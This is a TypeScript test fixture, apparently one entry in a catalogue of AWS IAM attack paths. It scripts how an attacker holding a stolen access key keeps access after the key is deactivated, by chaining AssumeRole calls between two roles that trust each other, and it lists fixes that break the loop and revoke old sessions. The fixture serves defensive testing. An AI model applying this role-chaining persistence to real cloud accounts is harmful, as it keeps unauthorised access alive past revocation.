import { allow, deny, policy, role, roleArn, trusts, user, userArn, when } from '../documents.ts';
import type { PathRow } from '../row.ts';

const rights = [allow(['sts:AssumeRole', 'ssm:GetParameter'])];
const into = (name: string) => ({ RoleArn: roleArn(name), RoleSessionName: 'again' });

export const row: PathRow = {
  row: '83',
  title: 'Two roles that refresh each other for ever',
  given: [
    { call: 'ssm:PutParameter', with: { Name: 'loot', Value: 'gold', Type: 'String' } },
    ...user('Bea', allow('sts:AssumeRole')),
    { call: 'iam:CreateAccessKey', with: { UserName: 'Bea' }, name: 'stolen' },
    ...role('Second', trusts({ AWS: '111122223333' }), ...rights),
    ...role('First', trusts({ AWS: [userArn('Bea'), roleArn('Second')] }), ...rights),
    {
      call: 'iam:UpdateAssumeRolePolicy',
      with: { RoleName: 'Second', PolicyDocument: trusts({ AWS: roleArn('First') }) },
    },
    ...user('Eve'),
  ],
  attacker: 'user/Eve',
  attack: [
    { call: 'sts:AssumeRole', as: 'from:stolen', with: into('First'), name: 'first' },
    {
      call: 'iam:UpdateAccessKey',
      as: 'root',
      with: ({ stolen }) => ({ UserName: 'Bea', AccessKeyId: stolen.AccessKey.AccessKeyId, Status: 'Inactive' }),
    },
    { wait: { seconds: 3000 } },
    { call: 'sts:AssumeRole', as: 'from:first', with: into('Second'), name: 'second' },
    { wait: { seconds: 3000 } },
    { call: 'sts:AssumeRole', as: 'from:second', with: into('First'), name: 'third' },
    { wait: { seconds: 3000 } },
  ],
  gain: { call: 'ssm:GetParameter', with: { Name: 'loot' }, as: 'from:third' },
  fixes: [
    {
      what: 'the circle broken',
      steps: [
        {
          call: 'iam:UpdateAssumeRolePolicy',
          with: { RoleName: 'Second', PolicyDocument: trusts({ AWS: userArn('Bea') }) },
        },
      ],
      stops: 'second',
    },
    {
      what: 'the sessions of both roles revoked',
      when: 'after',
      steps: ['First', 'Second'].map((RoleName) => ({
        call: 'iam:PutRolePolicy',
        with: {
          RoleName,
          PolicyName: 'AWSRevokeOlderSessions',
          PolicyDocument: policy(deny('*', '*', when('DateLessThan', 'aws:TokenIssueTime', '2026-01-05T14:25:00Z'))),
        },
      })),
      stops: 'ssm:GetParameter',
    },
  ],
  work: [{ call: 'sts:AssumeRole', as: 'user/Bea', with: into('First') }],
};
